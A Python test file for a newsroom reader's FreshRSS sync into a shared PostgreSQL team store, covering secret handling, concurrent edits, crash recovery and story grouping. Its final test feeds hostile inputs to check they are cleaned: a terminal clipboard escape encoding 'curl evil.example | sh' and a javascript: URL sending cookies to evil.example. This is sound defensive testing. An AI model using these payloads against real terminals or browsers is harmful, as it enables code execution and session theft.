"""The desk's sync account on the team store (PostgreSQL): two readers, one poller with the
secret that pushes what either of them changed, a change on both sides at once, the database
stopped in the middle of a sync, ``sync status`` on a machine with the secret and on one
without; and synced articles given their stories as a poll's, on both backends."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path

import keyring
import pytest

from newsroom_tui.commands.output import EXIT_OK
from newsroom_tui.ingest import story_assignment
from newsroom_tui.ingest.team_account_poll import team_plan
from newsroom_tui.store.pg_sync_side import PostgresSyncSide
from newsroom_tui.store.postgres import PostgresStore
from newsroom_tui.sync_records import Flag, ItemId
from tests.pg_server import PgServer
from tests.story_set import load
from tests.sync_kit import Place, _secret_in_file, place
from tests.sync_server import SyncServer
from tests.test_sync_cli import MemoryKeyring, SlowKeyring
from tests.test_sync_fetch import article_id, desk, fetch_json, log_in, newsroom

__all__ = ["_secret_in_file", "place"]  # the fixtures, imported to be found


@pytest.fixture
def freshrss() -> Iterator[SyncServer]:
    server = SyncServer("freshrss").start()
    yield server
    server.stop()


@pytest.fixture
def anna(pg_dsn: str, tmp_path: Path) -> Place:
    """The desk member who logged in: her machine keeps the secret."""
    return Place(tmp_path / "anna", pg_dsn, "anna")


@pytest.fixture
def ben(pg_dsn: str, tmp_path: Path) -> Place:
    """A colleague on another machine: the same team store, no secret."""
    return Place(tmp_path / "ben", pg_dsn, "ben")


def read_state(where: Place, title_start: str) -> tuple[bool, bool]:
    store = where.store()
    try:
        row = next(a for a in store.articles() if a.title.startswith(title_start))
        return row.read, row.flagged
    finally:
        store.close()


def status(where: Place, capsys: pytest.CaptureFixture[str]) -> dict[str, object]:
    code, out, err = newsroom(where, capsys, "sync", "status", "--json")
    assert code == EXIT_OK, err
    found = json.loads(out)
    assert isinstance(found, dict)
    return found


def test_a_colleagues_read_is_pushed_by_the_poller_that_has_the_secret(
    freshrss: SyncServer, anna: Place, ben: Place, capsys: pytest.CaptureFixture[str]
) -> None:
    items = desk(freshrss)
    log_in(anna, capsys, freshrss, "freshrss")
    assert fetch_json(anna, capsys)[0] == EXIT_OK
    # ben reads the synced articles, and reads one: for the whole desk, and queued
    unfall = article_id(ben, "Verkehrsunfall")
    assert newsroom(ben, capsys, "read", str(unfall))[0] == EXIT_OK
    assert newsroom(ben, capsys, "flag", str(article_id(ben, "Einbruch")))[0] == EXIT_OK
    assert read_state(anna, "Verkehrsunfall") == (True, False)
    assert ben.waiting() == 2
    # ben's poll has no secret: it leaves the account to anna's, and sends nothing
    freshrss.log.clear()
    code, report, err = fetch_json(ben, capsys)
    assert code == EXIT_OK, err
    assert report["sync"]["error"] is None and report["sync"]["pushed"] == 0
    assert "anna on " in report["sync"]["elsewhere"]
    assert freshrss.log == []
    assert not freshrss.items[items["unfall"]].read
    # anna's poll sends both, before its pull
    code, report, err = fetch_json(anna, capsys)
    assert code == EXIT_OK, err
    assert report["sync"]["pushed"] == 2
    assert freshrss.items[items["unfall"]].read
    assert freshrss.items[items["einbruch"]].starred
    assert ben.waiting() == 0
    assert read_state(ben, "Einbruch") == (False, True)
    # (the read one, dated 2024, is retention's now: keep_days is 90)


async def test_the_keyring_is_asked_off_the_event_loop_on_the_team_store(
    freshrss: SyncServer, anna: Place, capsys: pytest.CaptureFixture[str]
) -> None:
    """The reader's poll runs on its event loop: a keyring that waits (unlocking it) must
    not stop the reader's keys while the poll looks for the desk's secret."""
    desk(freshrss)
    ring = MemoryKeyring()
    keyring.set_keyring(ring)
    await asyncio.to_thread(log_in, anna, capsys, freshrss, "freshrss")
    slow = SlowKeyring(ring.saved)
    keyring.set_keyring(slow)
    store = anna.store()
    try:
        assert isinstance(store, PostgresStore)
        planning = asyncio.ensure_future(team_plan(store, None, None))
        await asyncio.to_thread(slow.asked.wait, SlowKeyring.WAIT_MAX)
        slow.release.set()  # from the event loop: it runs while the keyring is asked
        account, _, run = await planning
    finally:
        store.close()
    assert slow.released is True
    assert account.error is None and account.elsewhere is None and run is not None


def test_sync_status_on_the_team_store_says_where_the_secret_is(
    freshrss: SyncServer, anna: Place, ben: Place, capsys: pytest.CaptureFixture[str]
) -> None:
    assert newsroom(ben, capsys, "sync", "status", "--json")[1].strip() == "null"
    desk(freshrss)
    log_in(anna, capsys, freshrss, "freshrss")
    assert fetch_json(anna, capsys)[0] == EXIT_OK
    newsroom(ben, capsys, "read", str(article_id(ben, "Verkehrsunfall")))
    hers, his = status(anna, capsys), status(ben, capsys)
    for found in (hers, his):
        assert found["server"] == "FreshRSS" and found["user"] == freshrss.user
        assert found["store"] == "team" and found["waiting"] == 1
        assert found["last_sync"] is not None and found["last_error"] is None
        assert str(found["last_sync_by"]).startswith("anna on ")
        assert str(found["secret_holder"]).startswith("anna on ")
    assert hers["secret_in"] == "file" and hers["synced_by"] == "this machine's newsroom"
    assert his["secret_in"] is None and "anna on " in str(his["synced_by"])
    # the secret is nowhere in the database, and on ben's machine nowhere at all
    assert not (ben.data_dir / "sync-secret.json").exists()
    assert freshrss.password not in json.dumps(his)
    code, out, _ = newsroom(ben, capsys, "sync", "status")
    assert "not on this machine" in out and "waiting:    1 changes" in out
    # logging out takes the account off the store: nobody syncs it any more
    code, out, _ = newsroom(anna, capsys, "sync", "logout")
    assert code == EXIT_OK and "1 changes not sent were dropped" in out
    assert newsroom(ben, capsys, "sync", "status", "--json")[1].strip() == "null"
    assert not (anna.data_dir / "sync-secret.json").exists()
    code, report, _ = fetch_json(anna, capsys)
    assert code == EXIT_OK and report["sync"] is None


def test_a_change_on_both_sides_at_once_on_the_team_store(
    freshrss: SyncServer,
    anna: Place,
    ben: Place,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Elsewhere the item is starred; ben reads it while anna's poller syncs (after the
    engine looked at the outbox): the pull takes the star and keeps ben's read, which the
    next sync sends."""
    items = desk(freshrss)
    log_in(anna, capsys, freshrss, "freshrss")
    assert fetch_json(anna, capsys)[0] == EXIT_OK
    unfall = article_id(ben, "Verkehrsunfall")
    freshrss.set_state(items["unfall"], starred=True)
    pending = PostgresSyncSide.pending

    def meanwhile(self: PostgresSyncSide) -> set[tuple[ItemId, Flag]]:
        store = ben.store()
        try:
            store.set_read(unfall, True)  # ben reads it just now
        finally:
            store.close()
        return pending(self)

    monkeypatch.setattr(PostgresSyncSide, "pending", meanwhile)
    code, report, err = fetch_json(anna, capsys)
    assert code == EXIT_OK and report["sync"]["error"] is None, err
    assert read_state(anna, "Verkehrsunfall") == (True, True)
    assert ben.waiting() == 1 and not freshrss.items[items["unfall"]].read
    monkeypatch.setattr(PostgresSyncSide, "pending", pending)
    assert fetch_json(anna, capsys)[0] == EXIT_OK
    assert freshrss.items[items["unfall"]].read
    assert read_state(ben, "Verkehrsunfall") == (True, True)
    assert ben.waiting() == 0


def test_the_database_stopped_in_the_middle_of_a_sync_leaves_store_and_outbox_whole(
    freshrss: SyncServer,
    anna: Place,
    ben: Place,
    pg: PgServer,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    items = desk(freshrss)
    log_in(anna, capsys, freshrss, "freshrss")
    assert fetch_json(anna, capsys)[0] == EXIT_OK
    newsroom(ben, capsys, "read", str(article_id(ben, "Einbruch")))
    freshrss.set_state(items["sperrung"], read=True)  # not to be taken this time
    freshrss.add_item(1, "Polizei Bochum: Zeugen gesucht", "https://www.bochum.de/z.html")
    store = anna.store()
    before = [(a.id, a.title, a.read, a.flagged) for a in store.articles()]
    store.close()
    pending = PostgresSyncSide.pending

    def stopped(self: PostgresSyncSide) -> set[tuple[ItemId, Flag]]:
        found = pending(self)
        # after the push and the look at the outbox, before the pull is written (a clean
        # stop: the tests' server does not wait for the disk, so a crash may lose a commit)
        pg.stop("fast")
        return found

    monkeypatch.setattr(PostgresSyncSide, "pending", stopped)
    try:
        code, _, err = newsroom(anna, capsys, "fetch")
    finally:
        pg.restart()
    monkeypatch.setattr(PostgresSyncSide, "pending", pending)
    assert code != EXIT_OK
    assert "Traceback" not in err and "not written" in err, err
    store = anna.store()
    try:
        assert [(a.id, a.title, a.read, a.flagged) for a in store.articles()] == before
    finally:
        store.close()
    # the server had taken ben's read before the database went: only that left the outbox
    assert freshrss.items[items["einbruch"]].read and anna.waiting() == 0
    code, report, err = fetch_json(anna, capsys)
    assert code == EXIT_OK, err
    # now the pull is written: the new item, and the read set elsewhere
    assert report["sync"]["new_articles"] == 1 and report["sync"]["updated"] == 1
    assert read_state(ben, "Polizei Bochum: Zeugen gesucht") == (False, False)


def test_synced_articles_get_their_stories_as_a_polls(
    freshrss: SyncServer,
    place: Place,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Two sources' items that tell one story (the labelled week's) share its story id; an
    item of another story stands alone."""
    week = load()
    first, second = next(
        (a, b)
        for a in week
        for b in week
        if a.story == b.story and a.feed != b.feed and not a.decoy and not b.decoy
    )
    other = next(a for a in week if a.story != first.story and not a.decoy)
    feeds = {
        name: freshrss.add_feed(name, f"https://{name}.example.de/rss.xml")
        for name in {first.feed, second.feed, other.feed}
    }
    for article in (first, second, other):
        number = freshrss.add_item(
            feeds[article.feed], article.title, article.guid, html=f"<p>{article.text}</p>"
        )
        freshrss.items[number].published = int(
            datetime.fromisoformat(article.published).timestamp()
        )
    latest = max(datetime.fromisoformat(a.published) for a in (first, second, other))
    monkeypatch.setattr(story_assignment, "clock", lambda: latest + timedelta(minutes=1))
    log_in(place, capsys, freshrss, "freshrss")
    code, report, err = fetch_json(place, capsys)
    assert code == EXIT_OK and report["sync"]["new_articles"] == 3, err
    store = place.store()
    try:
        story = {a.url: a.story_id for a in store.articles()}
    finally:
        store.close()
    assert story[first.guid] == story[second.guid]
    assert story[other.guid] != story[first.guid]


def test_a_login_on_the_team_store_syncs_at_once_into_it(
    freshrss: SyncServer, anna: Place, ben: Place, capsys: pytest.CaptureFixture[str]
) -> None:
    desk(freshrss)
    args = ("sync", "login", freshrss.base, "--user", freshrss.user, "--password-stdin")
    code, out, err = newsroom(anna, capsys, *args, stdin=freshrss.password + "\n")
    assert code == EXIT_OK, err
    assert "logged in for the team store" in out and freshrss.password not in out
    assert "synced with FreshRSS: 2 feeds, 4 new articles" in out
    # the team store's reader is anna (newsroom's --user), not the server's user
    assert str(status(ben, capsys)["secret_holder"]).startswith("anna on ")
    assert read_state(ben, "Stadt Herne: Bahnhofstraße") == (False, False)


OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"


def _printable(text: str) -> bool:
    return all(char.isprintable() or char == "\n" for char in text)


def test_hostile_names_titles_and_urls_reach_the_store_cleaned(
    freshrss: SyncServer, place: Place, capsys: pytest.CaptureFixture[str]
) -> None:
    """The feed paths' cleaning, on the local cache and on the team store: escapes (with
    their payload) and controls taken out, a URL holding one refused, markup kept as text;
    a body of plain paragraphs (made here) and one with an escape (made in the workers)."""
    feed = freshrss.add_feed(f"[red]Polizei[/red] Bochum{OSC52}", "https://www.bochum.de/a.xml")
    freshrss.feeds[feed].category = f"Blaulicht\u202e{OSC52}"
    freshrss.feeds[feed].url = f"https://www.bochum.de/rss{OSC52}.xml"
    plain = freshrss.add_item(
        feed,
        f"Festnahme in Herne{OSC52}\x9b2J\u2066",
        "javascript:fetch('https://evil.example/?'+document.cookie)",
        "<p>Die Polizei nahm\u202e einen Mann fest.</p>\n<p>[red]Alarm[/red]</p>",
    )
    escaped = freshrss.add_item(
        feed,
        f"Einbruch in Wattenscheid\x1b[31m{OSC52}",
        f"https://www.bochum.de/einbruch{OSC52}.html",
        f"<p>Der Täter flüchtete.{OSC52}\x9d52;c;eA==\x07</p><p>Zeugen gesucht.</p>",
    )
    assert plain != escaped
    log_in(place, capsys, freshrss, "freshrss")
    code, report, err = fetch_json(place, capsys)
    assert code == EXIT_OK and report["sync"]["new_articles"] == 2, err
    store = place.store()
    try:
        (synced_feed,) = store.feeds()
        rows = sorted(store.articles(), key=lambda row: row.title)
        bodies = [store.article(row.id) for row in rows]
    finally:
        store.close()
    assert synced_feed.title == "[red]Polizei[/red] Bochum"
    assert synced_feed.category == "Blaulicht"
    assert [row.title for row in rows] == ["Einbruch in Wattenscheid", "Festnahme in Herne"]
    assert [row.url for row in rows] == [None, None]  # refused, not made up
    assert all(row.feed == "[red]Polizei[/red] Bochum" for row in rows)
    texts = [synced_feed.url]
    for body in bodies:
        assert body is not None
        texts += [body.body_markdown, body.summary]
    assert "[red]Alarm[/red]" in bodies[1].body_markdown  # type: ignore[union-attr]
    for text in texts:
        assert _printable(text) and "52;" not in text, repr(text)
